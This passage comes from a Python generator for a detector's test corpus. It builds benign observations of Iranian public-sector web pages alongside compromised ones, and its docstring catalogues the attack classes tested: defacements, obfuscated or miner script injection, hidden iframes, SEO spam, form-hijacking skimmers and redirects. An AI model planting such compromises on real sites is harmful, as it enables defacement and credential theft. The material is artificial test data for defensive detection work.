#!/usr/bin/env python3
"""Generate the website-watch accuracy corpus (tests/watch_corpus/).

usage: tests/watch_corpus/gen.py        (rewrites site/, benign/, attack/ here)

Python 3 standard library only. The output is deterministic (every random
choice comes from random.Random seeded with SEED and the case's name), so
regenerating changes nothing unless this script changed. It prints the
number of cases per class. tests/unit/test_watch_corpus.c reads the output.

What it writes
--------------
site/NAME/base1.html base2.html base3.html
    Three observations of one site (a few hours to a day apart) that the
    cases of that site learn from. They differ the way real observations
    do: dates (Jalali and Gregorian), visitor counters, CSRF tokens of the
    site's framework, CSP nonces, session ids in links, the rotating
    banner, one news item.
benign/CASE/ and attack/CASE/
    new.html    the observation to judge;
    expect      what the case is (format below);
    base1.html.. (optional) the case's own observations instead of a
                site's; old1.html.. (optional) the observations of the
                design before an accepted redesign: new.html must alarm
                against those (the change is real) and not against base*.

The `expect` file, one item per line:
    benign CLASS            a change that must not alarm: no signal, at most
                            recorded observations (so a score < 30)
    attack CLASS            a compromise that must alarm (score >= 30)
    site NAME               learn from site/NAME/base*.html (when the case
                            has no base*.html of its own)
    url URL                 the page's URL (`parapet watch analyze --url`)
    own DOMAIN              a domain of the site's organisation (repeatable)
    other DOMAIN ORG NAME   a domain another organisation of the
                            constituency owns, and that organisation's name
                            (the rest of the line; repeatable)
CLASS is a short name (news_added, video_youtube, deface_full_tr, ...); the
test counts cases, detections and false alarms per class.

The classes (the generator prints how many cases each has):
  benign  the day's noise (counters_tokens, nonces, date_rollover,
          banner_rotated, news_added, news_week, news_about_hackers);
          third parties in their usual role (video_*, map_*, analytics_*,
          tagmanager_gtm, chat_*, consent_*, social_share, social_embed,
          social_channel_links, a11y_*, captcha_*, fonts_*,
          cdnjs_new_library, payment_gateway); the site's own moves
          (cdn_version_bump, cms_upgrade, spa_bundle_hash, own_subdomain,
          own_other_domain, own_keepalive_iframe, constituency_widget,
          links_to_state_bodies, redesign_accepted); the site's own blocks
          that look like an attacker's at first sight (notice_top_banner,
          mourning_ribbon, announcement_modal, offcanvas_menu,
          arabic_verse_top, english_notice_on_persian_page).
  attack  deface_full_LANG (en fa tr id ar pt ru, with and without a
          signature), deface_partial_* (signature, marquee of handles,
          extortion, greetings, Turkish/Indonesian/Arabic block),
          deface_overlay, deface_new_post, title_replaced; script_* (look-
          alikes, bare IP, protocol-relative, user-content hosts, unknown
          hosts, four obfuscations, miners, a new jsdelivr repository);
          iframe_hidden_METHOD and seo_spam_METHOD (one class per way of
          hiding), seo_spam_japanese_keywords, seo_spam_parasite_pages,
          seo_spam_visible_links; form_hijack, form_hijack_js,
          form_fake_payment_gateway; redirect_* (meta refresh, script,
          on the referrer, on mobile, obfuscated).

The page structures: WordPress, Joomla, Drupal, ASP.NET WebForms,
Laravel/Bootstrap, plain PHP, legacy table layout (windows-1256), SPA shell,
Liferay, university portal, municipality, news agency, e-services portal; in
Persian (rtl), English and bilingual pages. Third-party snippets are
written as their vendors publish them; attacks as defacers, spammers and
skimmers leave them (a family per class, varied per case).
"""
import base64
import datetime
import os
import random
import shutil
import string
import sys
import zlib
from collections import Counter

HERE = os.path.dirname(os.path.abspath(__file__))
SEED = 12

FA_DIGITS = str.maketrans("0123456789", "۰۱۲۳۴۵۶۷۸۹")


def fa(n):
    return str(n).translate(FA_DIGITS)


def rng(*parts):
    """A generator of its own for each name: adding a case changes no other."""
    return random.Random(zlib.crc32(("%d:" % SEED + ":".join(map(str, parts))).encode()))


# The index of the case within its class, set by main() before each maker
# runs: vary() walks the variants of a family in turn, so every variant
# appears once before any appears twice.
CASE_INDEX = 0


def vary(seq):
    return seq[CASE_INDEX % len(seq)]


def hexs(r, n):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def b64s(r, nbytes):
    return base64.b64encode(bytes(r.randrange(256) for _ in range(nbytes))).decode()


def b64url(r, nbytes):
    return base64.urlsafe_b64encode(bytes(r.randrange(256) for _ in range(nbytes))).decode().rstrip("=")


def alnum(r, n):
    return "".join(r.choice(string.ascii_letters + string.digits) for _ in range(n))


def uuid(r):
    h = hexs(r, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"


# ------------------------------------------------------------------ dates

G0 = datetime.date(2026, 11, 24)  # = 3 Azar 1405
FA_WEEKDAY = ["دوشنبه", "سه‌شنبه", "چهارشنبه", "پنجشنبه", "جمعه", "شنبه", "یکشنبه"]
FA_MONTH = {9: "آذر", 10: "دی"}


def jalali(day):
    d = 3 + day
    m = 9
    if d > 30:
        d -= 30
        m = 10
    return 1405, m, d


def date_fa(day, long=False):
    y, m, d = jalali(day)
    if long:
        wd = FA_WEEKDAY[(G0 + datetime.timedelta(days=day)).weekday()]
        return f"{wd} {fa(d)} {FA_MONTH[m]} {fa(y)}"
    return f"{fa(y)}/{fa('%02d' % m)}/{fa('%02d' % d)}"


def date_en(day, long=False):
    g = G0 + datetime.timedelta(days=day)
    return g.strftime("%A, %d %B %Y") if long else g.strftime("%d %b %Y")


def date_iso(day):
    return (G0 + datetime.timedelta(days=day)).isoformat()


# ------------------------------------------------------------------ text pools

NEWS_FA = [
    ("آغاز عملیات اجرایی آزادراه شمال در قطعه سوم", "معاون وزیر از پیشرفت ۶۵ درصدی قطعه سوم آزادراه خبر داد و گفت بهره‌برداری تا پایان سال انجام می‌شود."),
    ("نشست مشترک با استانداران درباره طرح ملی مسکن", "در این نشست آخرین وضعیت واگذاری زمین و تأمین مالی واحدهای طرح ملی مسکن بررسی شد."),
    ("افتتاح ایستگاه جدید راه‌آهن در استان یزد", "ایستگاه جدید با ظرفیت سالانه یک میلیون مسافر به شبکه ریلی کشور افزوده شد."),
    ("اطلاعیه درباره ثبت‌نام مرحله دوم", "متقاضیان می‌توانند از طریق سامانه یکپارچه نسبت به تکمیل پرونده خود اقدام کنند."),
    ("بازدید هیئت کارشناسی از پروژه‌های بازآفرینی شهری", "هیئت کارشناسی از ۱۲ پروژه بازآفرینی در بافت‌های فرسوده شهری بازدید کرد."),
    ("برگزاری همایش ملی ایمنی", "همایش ملی ایمنی با حضور کارشناسان و مدیران دستگاه‌های اجرایی برگزار شد."),
    ("تمدید مهلت ارسال مقالات به کنفرانس سالانه", "دبیرخانه کنفرانس مهلت ارسال مقالات را تا پایان ماه آینده تمدید کرد."),
    ("راه‌اندازی سامانه هوشمند پایش", "این سامانه اطلاعات را به صورت برخط در اختیار شهروندان و کارشناسان قرار می‌دهد."),
    ("تشکیل کارگروه بهسازی ناوگان حمل و نقل عمومی", "کارگروه بهسازی ناوگان با حضور نمایندگان شهرداری‌ها تشکیل شد."),
    ("گزارش عملکرد شش ماهه سازمان", "در شش ماه نخست سال بیش از دو هزار پرونده بررسی و تعیین تکلیف شد."),
    ("دیدار مدیرکل با نمایندگان مردم در مجلس", "دو طرف بر پیگیری طرح‌های نیمه‌تمام استان و تأمین اعتبار آنها تأکید کردند."),
    ("برگزاری دوره آموزشی مدیریت بحران برای کارکنان", "این دوره با هدف افزایش آمادگی کارکنان در شرایط اضطراری به مدت سه روز برگزار شد."),
    ("انتصاب سرپرست جدید معاونت توسعه مدیریت و منابع", "با حکم رئیس سازمان، سرپرست جدید معاونت توسعه مدیریت و منابع منصوب شد."),
    ("آغاز طرح پاسخگویی مدیران به مردم در روزهای چهارشنبه", "شهروندان می‌توانند روزهای چهارشنبه با حضور در دفتر ارتباطات مردمی مسائل خود را مطرح کنند."),
    ("امضای تفاهم‌نامه همکاری با دانشگاه‌های استان", "این تفاهم‌نامه زمینه اجرای طرح‌های پژوهشی مشترک و کارآموزی دانشجویان را فراهم می‌کند."),
    ("اعلام نتایج ارزیابی عملکرد دستگاه‌های اجرایی", "در ارزیابی سال گذشته، سازمان در میان دستگاه‌های استان رتبه برتر را کسب کرد."),
    ("برگزاری جلسه شورای اداری استان", "در این جلسه برنامه‌های هفته پژوهش و فناوری و طرح‌های زودبازده بررسی شد."),
    ("بهره‌برداری از ۴۰ طرح عمرانی در دهه فجر", "۴۰ طرح عمرانی با اعتبار ۳ هزار میلیارد ریال در دهه فجر افتتاح می‌شود."),
    ("تقدیر از کارکنان نمونه سال", "در مراسمی از کارکنان نمونه واحدهای ستادی و استانی تقدیر شد."),
    ("اطلاعیه قطعی برنامه‌ریزی‌شده سامانه‌ها", "سامانه‌های خدمات الکترونیک روز جمعه از ساعت ۲ تا ۶ بامداد برای به‌روزرسانی در دسترس نیستند."),
]
NEWS_FA_HACKERS = ("هشدار مرکز ماهر درباره حملات هکرها به سامانه‌های اداری",
                   "مرکز ماهر از دستگاه‌ها خواست به‌روزرسانی‌های امنیتی را نصب کنند؛ هکرها از آسیب‌پذیری سامانه‌های قدیمی بهره می‌برند و صفحات وب را هک می‌کنند.")

NEWS_EN = [
    ("Third section of the northern freeway opens to traffic", "The deputy minister said work on the third section is 65 percent complete and the rest will open by the end of the year."),
    ("Governors meet on the national housing plan", "The meeting reviewed land allocation and financing of the housing units under the national plan."),
    ("New railway station opens in Yazd province", "The station adds capacity for one million passengers a year to the national rail network."),
    ("Second round of registration announced", "Applicants can complete their files through the integrated online system until the end of the month."),
    ("Expert panel visits urban regeneration projects", "The panel inspected twelve regeneration projects in the old quarters of the city."),
    ("National safety conference held in the capital", "Experts and managers of executive bodies attended the national safety conference."),
    ("Deadline for conference papers extended", "The secretariat extended the deadline for paper submissions until the end of next month."),
    ("Smart monitoring system launched", "The system gives citizens and experts live information from monitoring stations across the province."),
    ("Working group on public transport fleet formed", "Representatives of the municipalities joined the working group on renewing the fleet."),
    ("Six-month performance report published", "More than two thousand cases were reviewed and settled in the first half of the year."),
    ("Director general meets members of parliament", "Both sides stressed funding for the province's unfinished projects."),
    ("Crisis management training for staff", "The three-day course prepared staff for emergencies and continuity of public services."),
    ("New deputy for management development appointed", "The head of the organisation appointed a new acting deputy for management development and resources."),
    ("Open office hours for citizens on Wednesdays", "Citizens can meet managers every Wednesday at the public relations office."),
    ("Cooperation agreement signed with provincial universities", "The agreement opens the way to joint research projects and student internships."),
    ("Results of the annual performance assessment announced", "The organisation ranked first among the province's executive bodies last year."),
    ("Provincial administrative council convenes", "The council reviewed the programme of research and technology week."),
    ("Forty development projects to be inaugurated", "Forty projects worth 3,000 billion rials will be inaugurated next month."),
    ("Outstanding employees of the year honoured", "A ceremony honoured outstanding staff of the headquarters and provincial units."),
    ("Planned maintenance of online services", "Online services will be unavailable on Friday from 2 to 6 a.m. for an upgrade."),
]
NEWS_EN_HACKERS = ("CERT warns public bodies of attacks on outdated web servers",
                   "The national CERT asked public bodies to install security updates: hackers exploit old content management systems to deface web sites and plant malware.")

BANNERS_FA = [
    ("هفته ملی ایمنی", "با رعایت نکات ایمنی سفری ایمن داشته باشید."),
    ("سامانه جامع خدمات", "همه خدمات سازمان از طریق سامانه جامع قابل دریافت است."),
    ("پویش ملی صرفه‌جویی آب", "هر قطره آب ارزشمند است؛ به پویش ملی بپیوندید."),
    ("ثبت‌نام دوره‌های آموزشی", "ثبت‌نام دوره‌های آموزشی زمستان آغاز شد."),
]
BANNERS_EN = [
    ("National safety week", "Travel safely: follow the rules of the road."),
    ("One portal for every service", "All of our services are now available through the integrated portal."),
    ("Save water campaign", "Every drop counts: join the national campaign."),
    ("Winter training courses", "Registration for the winter courses is open."),
]
ANN_FA = ["ساعت کاری ادارات در نیمه دوم سال از ساعت ۷ تا ۱۴ است.",
          "پاسخگویی تلفنی سامانه ۱۱۱ به صورت شبانه‌روزی انجام می‌شود.",
          "فهرست پروژه‌های آماده سرمایه‌گذاری در بخش اسناد منتشر شد."]
ANN_EN = ["Office hours in the second half of the year are 7:00 to 14:00.",
          "The 111 call centre answers day and night.",
          "The list of projects open to investment is published under Documents."]

L = {
    "fa": dict(home="صفحه اصلی", about="درباره ما", news="اخبار", services="خدمات الکترونیک",
               contact="تماس با ما", laws="قوانین و مقررات", tenders="مناقصات و مزایده‌ها",
               gallery="گالری تصاویر", search="جستجو", search_ph="جستجو در سایت",
               latest="آخرین اخبار", more="آرشیو اخبار", ann="اطلاعیه‌ها", visits="تعداد بازدید",
               online="کاربران آنلاین", today="امروز", login="ورود", user="نام کاربری",
               password="گذرواژه", rights="کلیه حقوق این پایگاه محفوظ است.", links="پیوندهای مفید",
               address="نشانی", phone="تلفن", readmore="ادامه مطلب", staff="ورود کارکنان",
               video="گزارش تصویری", map="موقعیت ما روی نقشه", pay="پرداخت الکترونیک",
               amount="مبلغ (ریال)", bill="شناسه قبض", paybtn="پرداخت", newsletter="خبرنامه",
               email="پست الکترونیک", subscribe="عضویت", share="اشتراک‌گذاری", lang="English",
               contact_form="فرم تماس", name="نام", message="پیام", send="ارسال", stats="آمار",
               poll="نظرسنجی", events="رویدادها", forgot="فراموشی گذرواژه", register="ثبت‌نام"),
    "en": dict(home="Home", about="About us", news="News", services="e-Services", contact="Contact us",
               laws="Laws and regulations", tenders="Tenders", gallery="Gallery", search="Search",
               search_ph="Search this site", latest="Latest news", more="News archive",
               ann="Announcements", visits="Visits", online="Online now", today="Today",
               login="Log in", user="Username", password="Password",
               rights="All rights reserved.", links="Useful links", address="Address", phone="Phone",
               readmore="Read more", staff="Staff login", video="Video report", map="Find us on the map",
               pay="Online payment", amount="Amount (IRR)", bill="Bill ID", paybtn="Pay",
               newsletter="Newsletter", email="E-mail", subscribe="Subscribe", share="Share",
               lang="فارسی", contact_form="Contact form", name="Name", message="Message", send="Send",
               stats="Statistics", poll="Poll", events="Events", forgot="Forgot password",
               register="Register"),
}


# ------------------------------------------------------------------ sites

class Site:
    """One web site of the constituency: its structure, language, host and
    the organisation behind it."""

    def __init__(self, sid, struct, lang, host, org_fa, org_en, own=(), others=(), cdn=(),
                 charset="utf-8", nonce=False, extra=None):
        self.id, self.struct, self.lang, self.host = sid, struct, lang, host
        self.org_fa, self.org_en = org_fa, org_en
        self.own = list(own)
        self.others = list(others)
        self.cdn = list(cdn)  # assets the site already loads from public CDNs
        self.charset = charset
        self.nonce = nonce    # a CSP nonce on inline scripts, new on every load
        self.extra = extra or {}
        r = rng("site", sid)
        pool = NEWS_FA if lang == "fa" else NEWS_EN
        if lang == "bi":
            pool = [x for pair in zip(NEWS_FA, NEWS_EN) for x in pair]
        self.news = list(pool)
        r.shuffle(self.news)
        self.hackers_news = NEWS_EN_HACKERS if lang == "en" else NEWS_FA_HACKERS
        self.banners = BANNERS_EN if lang == "en" else BANNERS_FA
        self.ann = ANN_EN if lang == "en" else ANN_FA
        self.visits0 = r.randrange(80_000, 9_000_000)

    @property
    def domain(self):
        h = self.host
        return h[4:] if h.startswith("www.") else h

    def t(self, key):
        if self.lang == "bi":
            return f'{L["fa"][key]} <span lang="en">{L["en"][key]}</span>'
        return L[self.lang][key]

    def name(self):
        if self.lang == "en":
            return self.org_en
        if self.lang == "bi":
            return f"{self.org_fa} | {self.org_en}"
        return self.org_fa

    def date(self, day, long=False):
        if self.lang == "en":
            return date_en(day, long)
        if self.lang == "bi":
            return f"{date_fa(day, long)} - {date_en(day, long)}"
        return date_fa(day, long)

    def num(self, n):
        return str(n) if self.lang == "en" else fa(n)

    @property
    def dir(self):
        return "ltr" if self.lang == "en" else "rtl"

    @property
    def html_lang(self):
        return "en" if self.lang == "en" else "fa"


GOV_WINDOW = ("my.gov.ir", "Government Smart Services Window")
SITES = [
    Site("liferay_fa", "liferay", "fa", "www.mimt-kurdistan.ir", "سازمان صنعت، معدن و تجارت استان کردستان",
         "Kurdistan Industry, Mine and Trade Organisation", others=[GOV_WINDOW], nonce=True),
    Site("liferay_en", "liferay", "en", "en.irna-media.ir", "مرکز رسانه‌ای", "Media Centre",
         own=["irna-media.ir"]),
    Site("wp_fa", "wordpress", "fa", "www.abfa-kerman.ir", "شرکت آب و فاضلاب استان کرمان",
         "Kerman Water and Wastewater Company", others=[GOV_WINDOW], nonce=False),
    Site("wp_en", "wordpress", "en", "www.visitfars.ir", "اداره کل میراث فرهنگی فارس",
         "Fars Cultural Heritage and Tourism", own=["visitfars.ir", "fars-chht.ir"],
         cdn=["https://fonts.googleapis.com/css2?family=Open+Sans:wght@400;700&display=swap"]),
    Site("joomla_fa", "joomla", "fa", "www.tvto-yazd.ir", "اداره کل آموزش فنی و حرفه‌ای استان یزد",
         "Yazd Technical and Vocational Training", others=[GOV_WINDOW]),
    Site("joomla_bi", "joomla", "bi", "www.pmo-bushehr.ir", "اداره کل بنادر و دریانوردی بوشهر",
         "Bushehr Ports and Maritime Administration",
         cdn=["https://cdnjs.cloudflare.com/ajax/libs/jquery/3.6.0/jquery.min.js"]),
    Site("drupal_en", "drupal", "en", "www.gsi-research.ir", "سازمان زمین‌شناسی",
         "Geological Survey Research Institute", nonce=True,
         cdn=["https://cdn.jsdelivr.net/npm/bootstrap@5.3.2/dist/js/bootstrap.bundle.min.js"]),
    Site("drupal_fa", "drupal", "fa", "www.nlai-lib.ir", "کتابخانه ملی - شعبه استانی",
         "National Library, provincial branch", others=[GOV_WINDOW],
         cdn=["https://cdn.jsdelivr.net/npm/jquery@3.6.0/dist/jquery.min.js"]),
    Site("aspnet_fa", "aspnet", "fa", "www.tamin-khorasan.ir", "اداره کل تأمین اجتماعی خراسان رضوی",
         "Social Security Organisation, Khorasan Razavi", own=["tamin-khorasan.ir", "tamin.ir"],
         others=[GOV_WINDOW]),
    Site("aspnet_en", "aspnet", "en", "www.irica-trade.ir", "گمرک - درگاه تجاری",
         "Customs Trade Gateway", cdn=["https://code.jquery.com/jquery-3.6.0.min.js"]),
    Site("laravel_bi", "laravel", "bi", "www.stp-isfahan.ir", "پارک علم و فناوری اصفهان",
         "Isfahan Science and Technology Park", nonce=True,
         cdn=["https://cdn.jsdelivr.net/npm/bootstrap@5.3.2/dist/js/bootstrap.bundle.min.js",
              "https://cdn.jsdelivr.net/npm/bootstrap@5.3.2/dist/css/bootstrap.min.css",
              "https://cdn.jsdelivr.net/gh/rastikerdar/vazirmatn@v33.003/Vazirmatn-font-face.css"]),
    Site("laravel_fa", "laravel", "fa", "sso.mcls-qom.ir", "اداره کل تعاون، کار و رفاه اجتماعی قم",
         "Qom Cooperatives, Labour and Social Welfare", own=["mcls-qom.ir"], others=[GOV_WINDOW]),
    Site("php_fa", "php", "fa", "www.shora-rasht.ir", "شورای اسلامی شهر رشت", "Rasht City Council"),
    Site("php_en", "php", "en", "www.caspian-fisheries.ir", "شیلات دریای خزر", "Caspian Fisheries Research"),
    Site("legacy_fa", "legacy", "fa", "www.edu-zanjan.ir", "اداره کل آموزش و پرورش استان زنجان",
         "Zanjan Education Department", charset="windows-1256"),
    Site("legacy_fa2", "legacy", "fa", "www.dadgostari-ilam.ir", "دادگستری استان ایلام",
         "Ilam Province Judiciary", charset="utf-8"),
    Site("spa_fa", "spa", "fa", "my.sana-portal.ir", "سامانه ثنا", "SANA e-portal",
         own=["sana-portal.ir"]),
    Site("spa_en", "spa", "en", "app.evisa-gate.ir", "درگاه روادید الکترونیک", "Electronic Visa Gateway",
         own=["evisa-gate.ir"]),
    Site("uni_bi", "university", "bi", "www.hormozgan-univ.ac.ir", "دانشگاه هرمزگان",
         "University of Hormozgan", others=[("irandoc.ac.ir", "Iranian Research Institute for Information Science")],
         nonce=True),
    Site("uni_en", "university", "en", "en.semnan-univ.ac.ir", "دانشگاه سمنان", "Semnan University",
         own=["semnan-univ.ac.ir"],
         cdn=["https://fonts.googleapis.com/css2?family=Roboto:wght@400;500&display=swap"]),
    Site("muni_fa", "municipality", "fa", "www.arak.ir", "شهرداری اراک", "Arak Municipality",
         own=["arak.ir", "arak-city.ir"], others=[GOV_WINDOW]),
    Site("muni_bi", "municipality", "bi", "www.kish-city.ir", "شهرداری کیش", "Kish Municipality"),
    Site("news_fa", "newsagency", "fa", "www.khabar-jonoub.ir", "خبرگزاری جنوب", "South News Agency",
         nonce=True),
    Site("news_en", "newsagency", "en", "en.khabar-jonoub.ir", "خبرگزاری جنوب", "South News Agency",
         own=["khabar-jonoub.ir"]),
    Site("esvc_fa", "eservices", "fa", "e.tax-golestan.ir", "اداره کل امور مالیاتی استان گلستان",
         "Golestan Tax Administration", own=["tax-golestan.ir"], others=[GOV_WINDOW]),
    Site("esvc_en", "eservices", "en", "services.irimo-met.ir", "سازمان هواشناسی - خدمات",
         "Meteorological Organisation e-Services", own=["irimo-met.ir"], nonce=True),
]
SITE = {s.id: s for s in SITES}


# ------------------------------------------------------------------ observations

class Obs:
    """The volatile part of one load of a page."""

    def __init__(self, site, k, r, day=None, news_off=None, banner=None):
        base_news = [6, 6, 5, 5][k]
        self.day = day if day is not None else [0, 0, 1, 2][k]
        self.news_off = news_off if news_off is not None else base_news
        self.banner = banner if banner is not None else [0, 1, 0, 2][k] % len(site.banners)
        self.visits = site.visits0 + [0, 1535, 5310, 9043][k] + r.randrange(0, 800)
        self.online = r.randrange(12, 240)
        self.token = hexs(r, 40)
        self.token32 = hexs(r, 32)
        self.nonce = b64s(r, 16)
        self.sess = hexs(r, 26)
        self.laravel_token = alnum(r, 40)
        self.viewstate = b64s(r, 180 + r.randrange(40))
        self.evval = b64s(r, 60)
        self.vsgen = hexs(r, 8).upper()
        self.form_build_id = "form-" + b64url(r, 32)
        self.drupal_token = b64url(r, 32)
        self.joomla_token = hexs(r, 32)
        self.wpnonce = hexs(r, 10)
        self.poll = [r.randrange(10, 60) for _ in range(3)]
        self.weather = r.randrange(-3, 24)
        self.captcha = alnum(r, 6)
        self.rand = r


def prayer_times(site, o):
    """Prayer times, shown by many Iranian sites: a minute or so different
    every day."""
    fajr, noon, magh = 5 * 60 + 10 + o.day, 11 * 60 + 52 + o.day // 3, 17 * 60 + 1 - o.day
    f = lambda m: site.num(f"{m // 60:02d}:{m % 60:02d}")
    if site.lang == "en":
        return f"Prayer times: dawn {f(fajr)}, noon {f(noon)}, sunset {f(magh)}"
    return f"اوقات شرعی: اذان صبح {f(fajr)} - اذان ظهر {f(noon)} - اذان مغرب {f(magh)}"


def news_items(site, o, n=6, override=None):
    items = override or site.news[o.news_off:o.news_off + n]
    return items


# ------------------------------------------------------------------ templates
#
# Each template renders one page of a site from an observation and the
# case's modifications m (a dict): head (before </head>), top (first thing
# in <body>), main (inside the main content, after the news), end (before
# </body>), title (replaces the title), form_action (the login/contact form),
# assets (version overrides), news (the list shown). Absent keys leave the
# site as it is.


def nonce_attr(site, o):
    return f' nonce="{o.nonce}"' if site.nonce else ""


def wordpress(site, o, m):
    ver = m.get("wpver", "6.4.3")
    jq = m.get("wpjq", "3.7.1")
    t = site.t
    items = "\n".join(f'''<article id="post-{4810 + i + o.news_off}" class="post-{4810 + i + o.news_off} post type-post status-publish format-standard has-post-thumbnail hentry category-news">
  <header class="entry-header"><h2 class="entry-title"><a href="https://{site.host}/{'news' if site.lang == 'en' else '%d8%a7%d8%ae%d8%a8%d8%a7%d8%b1'}/{4810 + i + o.news_off}/" rel="bookmark">{h}</a></h2>
  <div class="entry-meta"><span class="posted-on"><time class="entry-date published" datetime="{date_iso(o.day)}T09:{10 + i}:00+03:30">{site.date(o.day)}</time></span></div></header>
  <div class="entry-summary"><p>{x} <a class="more-link" href="https://{site.host}/?p={4810 + i + o.news_off}">{t("readmore")}</a></p></div>
</article>''' for i, (h, x) in enumerate(news_items(site, o, override=m.get("news"))))
    bt, bx = site.banners[o.banner]
    cdn = "\n".join(f"<link rel='stylesheet' href='{u}' media='all' />" if "css" in u else f"<script src='{u}'></script>"
                    for u in m.get("cdn", site.cdn))
    return f'''<!DOCTYPE html>
<html lang="{site.html_lang}{'-IR' if site.lang != 'en' else '-US'}" dir="{site.dir}">
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<link rel="profile" href="https://gmpg.org/xfn/11">
<title>{m.get("title", site.name() + " &#8211; " + ("Official website" if site.lang == "en" else "پایگاه اطلاع رسانی"))}</title>
<meta name='robots' content='max-image-preview:large' />
<link rel="alternate" type="application/rss+xml" title="{site.org_en} &raquo; Feed" href="https://{site.host}/feed/" />
<script type="text/javascript">
/* <![CDATA[ */
window._wpemojiSettings = {{"baseUrl":"https:\\/\\/s.w.org\\/images\\/core\\/emoji\\/14.0.0\\/72x72\\/","ext":".png","svgUrl":"https:\\/\\/s.w.org\\/images\\/core\\/emoji\\/14.0.0\\/svg\\/","svgExt":".svg","source":{{"concatemoji":"https:\\/\\/{site.host}\\/wp-includes\\/js\\/wp-emoji-release.min.js?ver={ver}"}}}};
/*! This file is auto-generated */
!function(i,n){{var o,s,e;function c(e){{try{{var t={{supportTests:e,timestamp:(new Date).valueOf()}};sessionStorage.setItem(o,JSON.stringify(t))}}catch(e){{}}}}}}(window,document,window._wpemojiSettings);
/* ]]> */
</script>
<style id='wp-emoji-styles-inline-css' type='text/css'>
	img.wp-smiley, img.emoji {{ display: inline !important; border: none !important; box-shadow: none !important; height: 1em !important; width: 1em !important; margin: 0 0.07em !important; vertical-align: -0.1em !important; background: none !important; padding: 0 !important; }}
</style>
<link rel='stylesheet' id='wp-block-library-css' href='https://{site.host}/wp-includes/css/dist/block-library/style.min.css?ver={ver}' type='text/css' media='all' />
<link rel='stylesheet' id='astra-theme-css-css' href='https://{site.host}/wp-content/themes/astra/assets/css/minified/main.min.css?ver=4.6.4' type='text/css' media='all' />
<link rel='stylesheet' id='contact-form-7-css' href='https://{site.host}/wp-content/plugins/contact-form-7/includes/css/styles.css?ver=5.8.7' type='text/css' media='all' />
{cdn}
<script type="text/javascript" src="https://{site.host}/wp-includes/js/jquery/jquery.min.js?ver={jq}" id="jquery-core-js"></script>
<script type="text/javascript" src="https://{site.host}/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1" id="jquery-migrate-js"></script>
<link rel="https://api.w.org/" href="https://{site.host}/wp-json/" />
<link rel="EditURI" type="application/rsd+xml" title="RSD" href="https://{site.host}/xmlrpc.php?rsd" />
<meta name="generator" content="WordPress {ver}" />
{m.get("head", "")}</head>
<body class="home blog wp-custom-logo ast-desktop ast-separate-container ast-two-container ast-no-sidebar astra-4.6.4{' rtl' if site.dir == 'rtl' else ''}">
{m.get("top", "")}<div class="hfeed site" id="page">
<a class="skip-link screen-reader-text" href="#content">Skip to content</a>
<header class="site-header ast-primary-submenu-animation-fade header-main-layout-1" id="masthead" itemtype="https://schema.org/WPHeader" itemscope="itemscope">
  <div class="site-branding"><a href="https://{site.host}/" class="custom-logo-link" rel="home"><img width="220" height="64" src="https://{site.host}/wp-content/uploads/2023/05/logo.png" class="custom-logo" alt="{site.org_en}" decoding="async" /></a>
  <p class="site-title"><a href="https://{site.host}/" rel="home">{site.name()}</a></p></div>
  <nav id="site-navigation" class="main-header-bar-navigation" aria-label="Site Navigation">
  <ul id="primary-menu" class="main-header-menu ast-menu-shadow ast-nav-menu ast-flex">
    <li id="menu-item-12" class="menu-item menu-item-type-custom current-menu-item"><a href="https://{site.host}/" class="menu-link">{t("home")}</a></li>
    <li id="menu-item-14" class="menu-item menu-item-type-post_type"><a href="https://{site.host}/about/" class="menu-link">{t("about")}</a></li>
    <li id="menu-item-15" class="menu-item menu-item-type-taxonomy"><a href="https://{site.host}/category/news/" class="menu-link">{t("news")}</a></li>
    <li id="menu-item-16" class="menu-item menu-item-type-post_type"><a href="https://{site.host}/services/" class="menu-link">{t("services")}</a></li>
    <li id="menu-item-17" class="menu-item menu-item-type-post_type"><a href="https://{site.host}/tenders/" class="menu-link">{t("tenders")}</a></li>
    <li id="menu-item-18" class="menu-item menu-item-type-post_type"><a href="https://{site.host}/contact/" class="menu-link">{t("contact")}</a></li>
  </ul></nav>
  <form role="search" method="get" class="search-form" action="https://{site.host}/"><label><span class="screen-reader-text">{t("search")}</span><input type="search" class="search-field" placeholder="{L['en' if site.lang == 'en' else 'fa']['search_ph']}" value="" name="s" /></label></form>
</header>
<div id="content" class="site-content"><div class="ast-container">
<div class="wp-block-cover slider" data-slide="{o.banner}"><div class="wp-block-cover__inner-container"><h2 class="has-text-align-center">{bt}</h2><p class="has-text-align-center">{bx}</p></div></div>
<div id="primary" class="content-area primary"><main id="main" class="site-main">
<h1 class="page-title">{t("latest")}</h1>
{items}
<nav class="navigation pagination" aria-label="Posts"><div class="nav-links"><span aria-current="page" class="page-numbers current">1</span><a class="page-numbers" href="https://{site.host}/page/2/">2</a><a class="next page-numbers" href="https://{site.host}/page/2/">&rarr;</a></div></nav>
{m.get("main", "")}</main></div>
<aside id="secondary" class="widget-area secondary">
  <section id="text-3" class="widget widget_text"><h2 class="widget-title">{t("ann")}</h2><div class="textwidget"><ul>{"".join(f"<li>{a}</li>" for a in site.ann)}</ul></div></section>
  <section id="block-5" class="widget widget_block"><h2 class="widget-title">{t("contact_form")}</h2>
  <div class="wpcf7 no-js" id="wpcf7-f221-o1" lang="fa-IR" dir="rtl"><form action="{m.get("form_action", "/#wpcf7-f221-o1")}" method="post" class="wpcf7-form init" aria-label="Contact form" novalidate="novalidate" data-status="init">
  <div style="display: none;"><input type="hidden" name="_wpcf7" value="221" /><input type="hidden" name="_wpcf7_version" value="5.8.7" /><input type="hidden" name="_wpcf7_locale" value="fa_IR" /><input type="hidden" name="_wpcf7_unit_tag" value="wpcf7-f221-o1" /><input type="hidden" name="_wpnonce" value="{o.wpnonce}" /></div>
  <p><label>{t("name")}<br /><input size="40" class="wpcf7-form-control wpcf7-text" type="text" name="your-name" /></label></p>
  <p><label>{t("email")}<br /><input size="40" class="wpcf7-form-control wpcf7-email" type="email" name="your-email" /></label></p>
  <p><label>{t("message")}<br /><textarea cols="40" rows="6" class="wpcf7-form-control wpcf7-textarea" name="your-message"></textarea></label></p>
  {m.get("form_extra", "")}<p><input class="wpcf7-form-control wpcf7-submit has-spinner" type="submit" value="{L['en' if site.lang == 'en' else 'fa']['send']}" /></p>
  </form></div></section>
